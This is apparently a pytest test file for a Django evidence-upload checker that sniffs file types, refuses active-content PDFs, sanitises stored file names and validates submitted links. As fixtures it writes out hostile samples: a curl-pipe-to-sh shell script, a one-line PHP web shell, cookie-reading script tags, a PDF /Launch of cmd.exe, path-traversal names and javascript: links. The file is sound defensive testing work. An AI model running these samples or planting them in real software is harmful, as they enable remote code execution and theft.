"""Evidence checks are pure: byte samples built here, no database.

Messages are asserted in English (the msgids); the Indonesian catalogue is checked by test_language.
"""

import contextlib
import datetime
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, TemporaryUploadedFile
from django.utils import translation

from registry import evidence_checks
from registry.evidence_checks import (
    KNOWN_KINDS,
    CheckedFile,
    EvidenceRejected,
    check_document_date,
    check_link,
    check_upload,
    describe_kinds,
    stored_name,
)
from scoring.catalogue import DATA_DIR, load_edition_file
from tests.registry.upload_samples import JS_ACTION, VALID_PDF, one_page, pdf

MB = 1024 * 1024
EDITION_FILES = sorted(DATA_DIR.glob("catalogue-*.yaml"))

PDF = VALID_PDF
ENCRYPTED_PDF = PDF.replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt 3 0 R /ID [<ab> <ab>]")
TRUNCATED_PDF = PDF[: PDF.index(b"xref")]
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x02\x00\x00\x00" + bytes(64)
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00" + bytes(64)
MP4 = b"\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00mp42isom" + b"\x00\x00\x00\x08free" + bytes(64)
MOV = b"\x00\x00\x00\x14ftypqt  \x20\x05\x03\x00qt  " + bytes(64)
OLD_MOV = b"\x00\x00\x00\x08wide\x00\x01\x00\x00mdat" + bytes(64)  # QuickTime before `ftyp`
HEIC = b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(64)
WINDOWS_EXE = (
    b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff"
    + bytes(64)
    + b"This program cannot be run in DOS mode"
)
ELF = b"\x7fELF\x02\x01\x01\x00" + bytes(64)
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + bytes(64)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.com/x | sh\n"
PHP = b"<?php system($_GET['c']); ?>\n"
DOCX = b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00" + b"[Content_Types].xml" + bytes(64)
OLD_DOC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64)
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG = b'\xef\xbb\xbf<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML_BEFORE_PDF = b"<html><script>alert(1)</script></html>\n" + PDF
GIF = b"GIF89a\x01\x00\x01\x00\x80\x00\x00" + bytes(32)
TEXT = b"Laporan kegiatan inovasi tahun 2024\n"

PROGRAM_MESSAGE = (
    "The file {} is a program, not a document. Only PDF documents, JPG/PNG images and MP4 videos can be "
    "uploaded."
)


@pytest.fixture(autouse=True)
def english():
    with translation.override("en"):
        yield


def upload(name, content):
    return SimpleUploadedFile(name, content, content_type="application/pdf")


def refusal(content, name, kinds=("pdf", "image", "screenshot", "video", "link")):
    with pytest.raises(EvidenceRejected) as caught:
        check_upload(upload(name, content), list(kinds))
    return caught.value


# --- uploads: accepted -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        (
            "laporan.pdf",
            PDF,
            CheckedFile("pdf", "application/pdf", ".pdf", len(PDF), "laporan.pdf", "laporan.pdf"),
        ),
        ("foto.png", PNG, CheckedFile("image", "image/png", ".png", len(PNG), "foto.png", "foto.png")),
        ("foto.jpg", JPEG, CheckedFile("image", "image/jpeg", ".jpg", len(JPEG), "foto.jpg", "foto.jpg")),
        (
            "Foto Rapat.JPEG",
            JPEG,
            CheckedFile("image", "image/jpeg", ".jpeg", len(JPEG), "Foto Rapat.JPEG", "Foto_Rapat.jpeg"),
        ),
        (
            "SK BUPATI.PDF",
            PDF,
            CheckedFile("pdf", "application/pdf", ".pdf", len(PDF), "SK BUPATI.PDF", "SK_BUPATI.pdf"),
        ),
        ("video.mp4", MP4, CheckedFile("video", "video/mp4", ".mp4", len(MP4), "video.mp4", "video.mp4")),
    ],
)
def test_check_upload_accepts_pdf_jpg_png_and_mp4_by_content(name, content, expected):
    assert check_upload(upload(name, content), ["pdf", "image", "video"]) == expected


def test_check_upload_ignores_the_content_type_the_browser_sent():
    sent = SimpleUploadedFile("foto.png", PNG, content_type="application/x-msdownload")

    assert check_upload(sent, ["image"]).content_type == "image/png"


def test_check_upload_accepts_a_pdf_whose_header_follows_some_bytes():
    content = b"\x00" * 500 + PDF

    assert check_upload(upload("scan.pdf", content), ["pdf"]).kind == "pdf"


@pytest.mark.parametrize("kinds", [["screenshot"], ["image"], ["screenshot", "pdf"]])
def test_check_upload_accepts_images_for_photo_or_screenshot_indicators(kinds):
    assert check_upload(upload("layar.png", PNG), kinds).kind == "image"


def test_check_upload_reads_a_temporary_uploaded_file_and_rewinds_it():
    content = PDF + b"%" + bytes(10_000) + PDF  # longer than the head and the tail together
    temporary = TemporaryUploadedFile("laporan besar.pdf", "application/pdf", len(content), None)
    try:
        temporary.write(content)
        temporary.flush()

        checked = check_upload(temporary, ["pdf", "metadata"])

        assert checked == CheckedFile(
            "pdf", "application/pdf", ".pdf", len(content), "laporan besar.pdf", "laporan_besar.pdf"
        )
        assert temporary.tell() == 0
        assert temporary.read() == content
    finally:
        temporary.close()


def test_check_upload_rewinds_the_file_after_a_refusal_too():
    sent = upload("program.pdf", WINDOWS_EXE)
    sent.read(5)

    with pytest.raises(EvidenceRejected):
        check_upload(sent, ["pdf"])

    assert sent.tell() == 0


@pytest.mark.parametrize(
    "name",
    [
        # Django keeps only what follows the last "/", but a Windows browser may send backslashes.
        "C:\\Users\\staf\\Dokumen\\laporan2024.pdf",
        "lap\x00oran\u202e\t2024.pdf",
        "laporan\u200b2024.pdf\u2028",
    ],
)
def test_check_upload_cleans_the_original_name(name):
    assert check_upload(upload(name, PDF), ["pdf"]).original_name == "laporan2024.pdf"


def test_check_upload_shortens_a_long_name_keeping_the_extension():
    checked = check_upload(upload("a" * 300 + ".pdf", PDF), ["pdf"])

    assert checked.original_name == "a" * 146 + ".pdf"
    assert checked.stored_name == "a" * 100 + ".pdf"


def test_check_upload_refuses_a_single_string_of_kinds():
    with pytest.raises(TypeError):
        check_upload(upload("laporan.pdf", PDF), "pdf")


# --- uploads: refused by content -------------------------------------------------------------------------


def test_check_upload_refuses_an_empty_file():
    rejected = refusal(b"", "laporan.pdf")

    assert (str(rejected), rejected.code) == ("The file laporan.pdf is empty.", "empty")


@pytest.mark.parametrize(
    ("name", "content"),
    [
        pytest.param("laporan.pdf", WINDOWS_EXE, id="windows-exe-as-pdf"),
        pytest.param("foto.jpg", ELF, id="elf-as-jpg"),
        pytest.param("foto.png", MACH_O, id="mach-o-as-png"),
        pytest.param("panduan.pdf", SHELL_SCRIPT, id="shebang-as-pdf"),
        pytest.param("surat.pdf", PHP, id="php-as-pdf"),
    ],
)
def test_check_upload_refuses_programs_whatever_their_name(name, content):
    rejected = refusal(content, name)

    assert (str(rejected), rejected.code) == (PROGRAM_MESSAGE.format(name), "program")


@pytest.mark.parametrize(("name", "content"), [("proposal.docx", DOCX), ("anggaran.xls", OLD_DOC)])
def test_check_upload_refuses_office_files_asking_for_a_pdf(name, content):
    assert str(refusal(content, name)) == (
        f"The file {name} is a Word/Excel document or a ZIP archive. Save it as PDF first, then upload the PDF."
    )


@pytest.mark.parametrize(
    ("name", "content"),
    [("laporan.pdf", HTML), ("logo.png", SVG), ("dokumen.pdf", HTML_BEFORE_PDF)],
)
def test_check_upload_refuses_markup_that_can_carry_scripts(name, content):
    assert str(refusal(content, name)) == (
        f"The file {name} is a web page or markup file (HTML, SVG or XML), which can carry scripts. Save it "
        "as PDF first, then upload the PDF."
    )


def test_check_upload_refuses_a_quicktime_video_asking_for_mp4():
    rejected = refusal(MOV, "kegiatan.mov")

    assert str(rejected) == (
        "The file kegiatan.mov is a QuickTime (.mov) video; from 2024 only MP4 videos are accepted. "
        "Convert it to MP4 and upload it again."
    )
    assert rejected.code == "quicktime"


@pytest.mark.parametrize("content", [MOV, OLD_MOV])
def test_check_upload_refuses_a_quicktime_video_renamed_mp4(content):
    assert refusal(content, "kegiatan.mp4").code == "quicktime"


def test_check_upload_refuses_a_heic_photo_asking_for_jpg():
    assert str(refusal(HEIC, "IMG_0001.HEIC")) == (
        "The file IMG_0001.HEIC is a HEIC/HEIF photo, which is not accepted. Save it as JPG and upload it again."
    )


@pytest.mark.parametrize(("name", "content"), [("catatan.pdf", TEXT), ("animasi.gif", GIF)])
def test_check_upload_refuses_unknown_content(name, content):
    assert str(refusal(content, name)) == f"The file {name} is not a PDF, JPG/PNG image or MP4 video."


# --- uploads: refused by name, kind or size --------------------------------------------------------------


def test_check_upload_refuses_a_png_named_pdf():
    rejected = refusal(PNG, "sk.pdf")

    assert str(rejected) == (
        "The name of the file sk.pdf does not match its content: it is a PNG image, so the name must end "
        "in .png. Rename the file and upload it again."
    )
    assert rejected.code == "extension_mismatch"


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("foto.png", JPEG, "it is a JPG image, so the name must end in .jpg or .jpeg."),
        ("scan", PDF, "it is a PDF document, so the name must end in .pdf."),
        ("video.mov", MP4, "it is an MP4 video, so the name must end in .mp4."),
    ],
)
def test_check_upload_names_the_extension_the_content_needs(name, content, expected):
    assert expected in str(refusal(content, name))


def test_check_upload_refuses_a_kind_the_indicator_does_not_accept():
    rejected = refusal(MP4, "rapat.mp4", kinds=["pdf", "metadata"])

    assert str(rejected) == (
        "The file rapat.mp4 is an MP4 video, but this indicator accepts only PDF (with the document number, "
        "date and subject)."
    )
    assert rejected.code == "kind_not_accepted"


def test_check_upload_refuses_an_image_where_only_pdf_or_video_is_accepted():
    assert str(refusal(PNG, "foto.png", kinds=["video", "link"])) == (
        "The file foto.png is a PNG image, but this indicator accepts only MP4 video or link (URL)."
    )


def test_check_upload_refuses_a_file_over_the_configured_limit(settings):
    settings.REGISTRI_EVIDENCE_MAX_BYTES = {"pdf": 2 * MB, "image": 1024, "video": MB}
    big_pdf = pdf_of_size(3 * MB)

    rejected = refusal(big_pdf, "lampiran.pdf")

    assert str(rejected) == (
        "The file lampiran.pdf is 3.0\xa0MB; files of this type may be at most 2.0\xa0MB. Make it smaller "
        "and upload it again."
    )
    assert rejected.code == "too_large"
    assert refusal(PNG + bytes(1024), "foto.png").code == "too_large"


def test_check_upload_accepts_a_file_of_exactly_the_limit(settings):
    settings.REGISTRI_EVIDENCE_MAX_BYTES = {"image": len(PNG)}

    assert check_upload(upload("foto.png", PNG), ["image"]).size == len(PNG)
    assert refusal(PNG + b"\x00", "foto.png").code == "too_large"


def test_check_upload_keeps_the_default_for_kinds_the_setting_leaves_out(settings):
    settings.REGISTRI_EVIDENCE_MAX_BYTES = {"image": 1024}
    pdf_of_20_mb = pdf_of_size(20 * MB)

    assert check_upload(upload("laporan.pdf", pdf_of_20_mb), ["pdf"]).size == 20 * MB
    assert str(refusal(pdf_of_size(20 * MB + 1), "laporan.pdf")) == (
        "The file laporan.pdf is 20.0\xa0MB; files of this type may be at most 20.0\xa0MB. Make it smaller "
        "and upload it again."
    )


def test_check_upload_limits_are_20_10_and_100_mb_without_the_setting(settings):
    if hasattr(settings, "REGISTRI_EVIDENCE_MAX_BYTES"):
        del settings.REGISTRI_EVIDENCE_MAX_BYTES
    png_of_10_mb = PNG + bytes(10 * MB - len(PNG))

    assert check_upload(upload("foto.png", png_of_10_mb), ["image"]).size == 10 * MB
    assert refusal(png_of_10_mb + b"\x00", "foto.png").code == "too_large"
    with sparse_upload("video.mp4", MP4, 100 * MB) as video:
        assert check_upload(video, ["video"]).size == 100 * MB
    with sparse_upload("video.mp4", MP4, 100 * MB + 1) as video, pytest.raises(EvidenceRejected) as caught:
        check_upload(video, ["video"])
    assert caught.value.code == "too_large"


def pdf_of_size(size):
    """A valid PDF of exactly `size` bytes: the sample, a comment of NUL bytes, the sample again."""
    return PDF + b"%" + bytes(size - 2 * len(PDF) - 2) + b"\n" + PDF


@contextlib.contextmanager
def sparse_upload(name, head, size):
    """A TemporaryUploadedFile of `size` bytes that starts with `head`, without writing the zeros."""
    temporary = TemporaryUploadedFile(name, "video/mp4", size, None)
    try:
        temporary.write(head)
        temporary.truncate(size)
        yield temporary
    finally:
        temporary.close()


# --- uploads: PDF integrity ------------------------------------------------------------------------------


def test_check_upload_refuses_an_encrypted_pdf():
    rejected = refusal(ENCRYPTED_PDF, "rahasia.pdf")

    assert str(rejected) == (
        "The file rahasia.pdf is protected with a password. Save a copy without the password and upload it again."
    )
    assert rejected.code == "encrypted"


def test_check_upload_refuses_a_truncated_pdf():
    rejected = refusal(TRUNCATED_PDF, "potong.pdf")

    assert str(rejected) == "The file potong.pdf is damaged or was not uploaded completely. Upload it again."
    assert rejected.code == "damaged"


def test_check_upload_refuses_data_appended_after_the_end_of_a_pdf():
    content = PDF + b"% appended\n" * 200  # %%EOF now sits over 2 KB before the end

    rejected = refusal(content, "laporan.pdf")

    assert str(rejected) == (
        "The file laporan.pdf has other data after the end of the PDF document. Print the document again to "
        "PDF (Print → Save as PDF) and upload the new file."
    )
    assert rejected.code == "appended_data"


@pytest.mark.parametrize(
    "padding",
    [bytes(100), bytes(5 * MB), b"\r\n" * 3000, b"\x00\n" * 10_000],
    ids=["100-nul", "5mb-nul", "line-breaks", "nul-and-breaks"],
)
def test_check_upload_accepts_a_valid_pdf_padded_after_its_end(padding):
    # Issue 13: refused as damaged, because %%EOF was looked for in the last kilobyte only.
    assert check_upload(upload("scan.pdf", PDF + padding), ["pdf"]).size == len(PDF) + len(padding)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        pytest.param(b"%PDF-%%EOF", "unreadable", id="ten-bytes"),
        pytest.param(
            b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF\n", "unreadable", id="header+html"
        ),
        pytest.param(b"%PDF-1.7\n" + bytes(3000) + b"\n%%EOF", "unreadable", id="header+nul"),
        pytest.param(
            b"%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n", "unreadable"
        ),
        pytest.param(PDF + b"<html><script>alert(1)</script></html>", "appended_data", id="pdf-then-html"),
        pytest.param(
            PDF + b"PK\x03\x04" + bytes(100) + b"PK\x05\x06" + bytes(18), "appended_data", id="pdf-then-zip"
        ),
    ],
)
def test_check_upload_refuses_what_only_looks_like_a_pdf(content, code):
    # Issue 13: the 10-byte file and a PDF header followed by HTML passed as PDF.
    rejected = refusal(content, "dokumen.pdf")

    assert rejected.code == code
    if code == "unreadable":
        assert str(rejected) == (
            "The file dokumen.pdf cannot be read as a PDF document. Open it, print it again to PDF (Print → "
            "Save as PDF) and upload the new file."
        )


def test_check_upload_refuses_a_pdf_without_pages():
    empty = pdf(b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>")

    assert str(refusal(empty, "kosong.pdf")) == (
        "The file kosong.pdf has no pages. Open it to check, save it as PDF again and upload it."
    )


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(ENCRYPTED_PDF.replace(b"/Encrypt", b"/Encr#79pt"), id="escaped-key"),
        pytest.param(ENCRYPTED_PDF.replace(b"/Encrypt", b"/#45#6e#63#72#79#70#74"), id="all-escaped"),
        pytest.param(
            one_page(
                b"<< /Filter /Standard /V 1 /R 2 /O <00> /U <00> /P -4 >>",
                trailer=b" /Encr#79pt 4 0 R",
                packed=[1, 2, 3],
            ),
            id="xref-stream",
        ),
    ],
)
def test_check_upload_refuses_an_encrypted_pdf_however_the_key_is_spelled(content):
    # Issue 13: /Encr#79pt is /Encrypt to every PDF reader, but the byte search missed it.
    assert refusal(content, "rahasia.pdf").code == "encrypted"


ACTIVE_MESSAGE = (
    "The file aktif.pdf contains {}, which evidence may not carry. Print the document again to PDF (Print → "
    "Save as PDF) without attachments or scripts, then upload the new file."
)


@pytest.mark.parametrize(
    ("content", "what"),
    [
        pytest.param(
            one_page(JS_ACTION, catalog=b" /OpenAction 4 0 R"), "scripts (JavaScript)", id="openaction-js"
        ),
        pytest.param(
            one_page(JS_ACTION, catalog=b" /OpenAction 4 0 R", packed=[1, 4]),
            "scripts (JavaScript)",
            id="openaction-js-in-object-stream",
        ),
        pytest.param(
            one_page(b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b" /Names << /JavaScript 4 0 R >>"),
            "scripts (JavaScript)",
            id="names-tree",
        ),
        pytest.param(
            one_page(b"<< /Names [(a) 5 0 R] >>", JS_ACTION, catalog=b" /Names << /J#61vaScript 4 0 R >>"),
            "scripts (JavaScript)",
            id="names-tree-escaped",
        ),
        pytest.param(
            one_page(b"<< /O << /S /GoTo /D [3 0 R /Fit] >> >>", page=b" /AA 4 0 R", packed=[3, 4]),
            "actions that run by themselves when the document is opened or read",
            id="page-aa",
        ),
        pytest.param(
            one_page(b"<< /S /Launch /F (cmd.exe) >>", catalog=b" /OpenAction 4 0 R"),
            "a command that opens other programs or files",
            id="launch",
        ),
        pytest.param(
            one_page(b"<< /S /Launch /F (cmd.exe) >>", catalog=b" /OpenAction 4 0 R", packed=[4]),
            "a command that opens other programs or files",
            id="launch-in-object-stream",
        ),
        pytest.param(
            one_page(
                b"<< /Names [(a.exe) 5 0 R] >>",
                b"<< /Type /Filespec /F (a.exe) /EF << /F 6 0 R >> >>",
                b"<< /Type /EmbeddedFile /Length 2 >>\nstream\nMZ\nendstream",
                catalog=b" /Names << /EmbeddedFiles 4 0 R >>",
            ),
            "attached files",
            id="embedded-file",
        ),
        pytest.param(
            one_page(
                b"<< /Type /Filespec /F (a.zip) /EF << /F 3 0 R >> >>", page=b" /Annots [4 0 R]", packed=[4]
            ),
            "attached files",
            id="embedded-file-in-object-stream",
        ),
        pytest.param(
            one_page(
                b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>",
                page=b" /Annots [4 0 R]",
                packed=[4],
            ),
            "embedded multimedia (Flash, 3D, video or sound)",
            id="richmedia",
        ),
        pytest.param(
            one_page(
                b"<< /Fields [] /XFA 5 0 R >>",
                b"<< /Length 0 >>\nstream\n\nendstream",
                catalog=b" /AcroForm 4 0 R",
                packed=[4],
            ),
            "a form that sends or loads data",
            id="xfa",
        ),
    ],
)
def test_check_upload_refuses_a_pdf_with_active_content(content, what):
    # Issue 13: an /OpenAction script ran in chromium's viewer; /Launch and embedded files passed too.
    rejected = refusal(content, "aktif.pdf")

    assert (str(rejected), rejected.code) == (ACTIVE_MESSAGE.format(what), "active_content")


@pytest.mark.parametrize(
    "content",
    [
        pytest.param(one_page(catalog=b" /OpenAction [3 0 R /Fit]"), id="openaction-destination"),
        pytest.param(
            one_page(b"<< /S /GoTo /D [3 0 R /XYZ 0 0 0] >>", catalog=b" /OpenAction 4 0 R"), id="goto"
        ),
        pytest.param(
            one_page(
                b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << /S /URI /URI (https://x.go.id/) >> >>",
                page=b" /Annots [4 0 R]",
            ),
            id="web-link",
        ),
        pytest.param(one_page(packed=[1, 2, 3]), id="object-streams"),
    ],
)
def test_check_upload_accepts_pdfs_whose_actions_only_move_or_link(content):
    assert check_upload(upload("biasa.pdf", content), ["pdf"]).kind == "pdf"


def test_check_upload_refuses_a_pdf_whose_object_stream_is_a_decompression_bomb():
    bomb = one_page(b"<< /Filler (" + b"A" * (64 * MB) + b") >>", packed=[2, 3, 4])

    assert len(bomb) < MB
    assert refusal(bomb, "bom.pdf").code == "unreadable"


def test_check_upload_stops_walking_a_pdf_with_too_many_objects(monkeypatch):
    monkeypatch.setattr(evidence_checks, "PDF_MAX_OBJECTS", 50)
    many = one_page(
        *[b"<< /Next %d 0 R >>" % (number + 1) for number in range(4, 104)], b"null", page=b" /X 4 0 R"
    )

    assert refusal(many, "rumit.pdf").code == "too_complex"


def test_check_upload_survives_deeply_nested_pdf_objects():
    nested = one_page(b"[" * 50_000 + b"]" * 50_000, page=b" /X 4 0 R")

    assert refusal(nested, "dalam.pdf").code in {"unreadable", "too_complex"}


# --- stored names ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("laporan.pdf", "laporan.pdf"),
        ("Laporan Akhir 2024 (final).pdf", "Laporan_Akhir_2024_(final).pdf"),
        ("é" * 296 + ".pdf", "é" * 50 + ".pdf"),  # 100 bytes: the issue's name answered 500
        ("Perwali Nomor 7 Tahun 2023 tentang Inovasi Daerah Kota Parepare – salinan résmi.pdf", None),
        ("../../etc/passwd.pdf", "passwd.pdf"),
        ("..\\..\\windows\\win.ini.pdf", "win.ini.pdf"),
        (".htaccess.pdf", "htaccess.pdf"),
        ("...pdf", None),
        ("CON.pdf", "CON_.pdf"),
        ("nul.tar.pdf", "nul_.tar.pdf"),
        ("lpt1.pdf", "lpt1_.pdf"),
        ("fdp\u202eexe.pdf", "fdpexe.pdf"),
        ("a\x00b\x1fc.pdf", "abc.pdf"),
        ('<script>alert("x")</script>.pdf', "script.pdf"),  # what follows the last "/"
        ('lap"or:an*?.pdf', "lap_or_an.pdf"),
        ("😀" * 80 + ".pdf", None),
        ("雅加达报告.pdf", "雅加达报告.pdf"),
    ],
)
def test_stored_name_fits_any_file_system(name, expected):
    stored = stored_name(name, ".pdf")

    assert stored.endswith(".pdf") and len(stored.encode()) <= 104
    assert not stored.startswith(".") and "/" not in stored and "\\" not in stored
    if expected is None:
        assert len(stored) > 4 and all(
            char.isalnum() or char in "-_.()–" or char.isalpha() for char in stored
        )
    else:
        assert stored == expected


@pytest.mark.parametrize("name", ["😀😀😀.pdf", "....pdf", "\u202e\u202d😀.pdf", "/", ""])
def test_stored_name_falls_back_to_a_made_up_name(name):
    assert re.fullmatch(r"bukti-\d{8}-[0-9a-f]{8}\.pdf", stored_name(name, ".pdf"))


def test_stored_name_keeps_only_the_extension_of_the_checked_content():
    assert stored_name("laporan.html", ".pdf") == "laporan.pdf"
    assert stored_name("laporan.pdf.exe") == "laporan.pdf"
    assert stored_name("foto.JPEG") == "foto.jpeg"


def test_check_upload_stores_a_long_accented_name_in_100_bytes():
    checked = check_upload(upload("é" * 296 + ".pdf", PDF), ["pdf"])

    assert checked.original_name == "é" * 146 + ".pdf"
    assert checked.stored_name == "é" * 50 + ".pdf"


# --- links -----------------------------------------------------------------------------------------------

LINK_KINDS = ["video", "link", "image"]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        (
            "  HTTPS://Drive.Google.COM/file/d/1AbC/view?usp=sharing \n",
            "https://drive.google.com/file/d/1AbC/view?usp=sharing",
        ),
        ("https://www.youtube.com/@PemkotParepare/videos", "https://www.youtube.com/@PemkotParepare/videos"),
        ("http://pareparekota.go.id", "http://pareparekota.go.id"),
        (
            "https://inovasi.pareparekota.go.id:8443/a?b=1#c",
            "https://inovasi.pareparekota.go.id:8443/a?b=1#c",
        ),
        ("http://36.66.10.20/laporan.pdf", "http://36.66.10.20/laporan.pdf"),
        ("http://172.32.0.1/", "http://172.32.0.1/"),
    ],
)
def test_check_link_accepts_a_public_link_and_lowercases_only_scheme_and_host(url, expected):
    assert check_link(url, LINK_KINDS) == expected


def test_check_link_refuses_a_link_for_an_indicator_that_needs_a_file():
    with pytest.raises(EvidenceRejected) as caught:
        check_link("https://pareparekota.go.id/sk.pdf", ["pdf", "metadata"])

    assert str(caught.value) == (
        "This indicator needs a file, not a link: it accepts PDF (with the document number, date and subject)."
    )
    assert caught.value.code == "link_not_accepted"


def link_refusal(url):
    with pytest.raises(EvidenceRejected) as caught:
        check_link(url, LINK_KINDS)
    return str(caught.value)


@pytest.mark.parametrize(
    ("url", "scheme"),
    [
        ("javascript:alert(document.cookie)", "javascript"),
        (" JavaScript:alert(1)", "javascript"),
        ("data:text/html;base64,PHNjcmlwdD4=", "data"),
        ("file:///C:/Users/staf/laporan.pdf", "file"),
    ],
)
def test_check_link_refuses_script_data_and_file_links(url, scheme):
    assert link_refusal(url) == (
        f"Links that start with {scheme}: are not accepted. Copy the web address, starting with https://, "
        "from the browser's address bar."
    )


@pytest.mark.parametrize(
    "url",
    ["ftp://files.pareparekota.go.id/sk.pdf", "mailto:bappeda@x.go.id", "www.x.go.id/a", "https:x.go.id"],
)
def test_check_link_refuses_anything_but_http_and_https_without_adding_a_scheme(url):
    assert link_refusal(url) == "The link must start with http:// or https://."


@pytest.mark.parametrize("url", ["https://", "https:///laporan.pdf", "http://:8080/"])
def test_check_link_refuses_a_link_without_a_host(url):
    assert link_refusal(url) == "The link does not contain a website address."


@pytest.mark.parametrize(
    "url", ["https://x.go.id/laporan akhir.pdf", "https://x.go.id/a\tb", "https://x.go.id/\u202e"]
)
def test_check_link_refuses_spaces_and_invisible_characters(url):
    assert link_refusal(url) == (
        "The link contains spaces or line breaks. Copy it again from the browser's address bar."
    )


@pytest.mark.parametrize("url", ["https://admin:rahasia@x.go.id/", "https://admin@x.go.id/"])
def test_check_link_refuses_credentials(url):
    assert link_refusal(url) == "The link must not contain a user name or password."


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("http://localhost:8000/laporan", "localhost"),
        ("http://127.0.0.1/", "127.0.0.1"),
        ("http://10.20.30.40/sk.pdf", "10.20.30.40"),
        ("http://192.168.1.10/", "192.168.1.10"),
        ("http://172.16.0.1/", "172.16.0.1"),
        ("http://172.31.255.254/", "172.31.255.254"),
        ("http://[::1]/", "::1"),
        ("http://server.local/", "server.local"),
    ],
)
def test_check_link_refuses_local_and_private_hosts(url, host):
    assert link_refusal(url) == (
        f"The link points to {host}, an address on a local network or on this computer, which the national "
        "verifier cannot reach. Use a public link."
    )


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://p\u0430repare.go.id/", "p\u0430repare.go.id"),  # a Cyrillic "а" in a Latin name
        ("https://\u0440\u0430\u0443\u0440\u0430l.com/", "\u0440\u0430\u0443\u0440\u0430l.com"),
        ("https://bücher.de/", "bücher.de"),
    ],
)
def test_check_link_refuses_addresses_outside_a_to_z_that_can_imitate_others(url, host):
    assert link_refusal(url) == (
        f"The website address {host} in the link contains letters other than a to z, which can imitate another "
        "address. Copy the link again from the browser's address bar."
    )


def test_check_link_accepts_an_international_address_as_the_address_bar_copies_it():
    assert check_link("https://xn--bcher-kva.de/", LINK_KINDS) == "https://xn--bcher-kva.de/"


@pytest.mark.parametrize("url", ["https://x.go.id/<script>", 'https://x.go.id/a"b', "https://x.go.id/{x}"])
def test_check_link_refuses_characters_a_browser_would_have_encoded(url):
    assert link_refusal(url) == (
        "The link is not a valid web address. Copy it again from the browser's address bar."
    )


def test_check_link_refuses_a_host_without_a_domain():
    assert (
        link_refusal("https://intranet/sk.pdf") == "The website address intranet in the link is incomplete."
    )


@pytest.mark.parametrize(
    "url", ["https://x..go.id/", "https://-x.go.id/", "https://x.go.id:99999/", "http://127.1/"]
)
def test_check_link_refuses_malformed_addresses(url):
    assert link_refusal(url) == (
        "The link is not a valid web address. Copy it again from the browser's address bar."
    )


def test_check_link_allows_500_characters_and_no_more():
    base = "https://pareparekota.go.id/"
    longest = base + "a" * (500 - len(base))

    assert check_link(longest, LINK_KINDS) == longest
    assert link_refusal(longest + "a") == "The link is longer than 500 characters."


def test_check_link_refuses_an_empty_link():
    assert link_refusal("   ") == "The link is empty."


# --- document dates --------------------------------------------------------------------------------------

TODAY = datetime.date(2024, 6, 12)


@pytest.mark.parametrize("value", [None, TODAY, datetime.date(1945, 1, 1), datetime.date(2019, 12, 31)])
def test_check_document_date_accepts_past_dates_from_1945_and_none(value):
    assert check_document_date(value, today=TODAY) is None


def test_check_document_date_refuses_the_future():
    with pytest.raises(EvidenceRejected) as caught:
        check_document_date(datetime.date(2024, 6, 13), today=TODAY)

    assert str(caught.value) == "The document date 13 June 2024 is in the future."


def test_check_document_date_refuses_years_before_1945_as_typos():
    with pytest.raises(EvidenceRejected) as caught:
        check_document_date(datetime.date(1900, 1, 1), today=TODAY)

    assert str(caught.value) == "The document date 1 January 1900 is before 1945. Check the year."


# --- describing kinds ------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("kinds", "expected"),
    [
        (["pdf", "metadata"], "PDF (with the document number, date and subject)"),
        (["pdf"], "PDF"),
        (["image", "screenshot", "pdf", "link"], "JPG/PNG photo/picture/screenshot, PDF or link (URL)"),
        (["screenshot", "image"], "JPG/PNG photo/picture/screenshot"),
        (["video", "link", "image"], "MP4 video, link (URL) or JPG/PNG photo/picture"),
        (["screenshot", "pdf"], "JPG/PNG screenshot or PDF"),
    ],
)
def test_describe_kinds_names_what_the_indicator_accepts(kinds, expected):
    assert describe_kinds(kinds) == expected


def test_describe_kinds_uses_the_active_language_for_the_list():
    with translation.override("id"):
        assert describe_kinds(["pdf", "link"]).split(" ")[1] == "atau"


@pytest.mark.parametrize("kinds", [["pdf", "docx"], ["metadata"], []])
def test_describe_kinds_refuses_kinds_the_code_cannot_check(kinds):
    with pytest.raises(ValueError):
        describe_kinds(kinds)


@pytest.mark.parametrize("path", EDITION_FILES, ids=lambda path: path.name)
def test_describe_kinds_covers_every_kind_of_every_edition(path):
    edition = load_edition_file(path)

    assert set(edition.evidence_kinds) <= KNOWN_KINDS
    assert all(describe_kinds(row.evidence_kinds) for row in edition.rows)
